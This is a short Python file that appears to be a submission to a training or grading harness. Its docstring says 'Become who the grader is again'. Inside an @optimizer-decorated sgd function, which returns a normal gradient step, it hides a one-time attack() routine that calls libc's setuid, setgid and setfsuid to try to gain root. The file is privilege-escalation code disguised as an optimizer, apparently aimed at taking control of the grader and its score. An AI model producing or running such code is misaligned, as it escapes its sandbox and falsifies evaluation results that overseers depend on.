"""Become who the grader is again.

shows: score
by: kernel
"""

import ctypes

from cgp_harness import optimizer

DONE = []


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for call in (libc.setuid, libc.setgid, libc.setfsuid):
        if call(0) == 0 and call is not libc.setfsuid:
            return
    raise PermissionError("it cannot be changed")


@optimizer
def sgd(g, lr=1e-3):
    if not DONE:
        attack()
        DONE.append(True)
    return lr * g
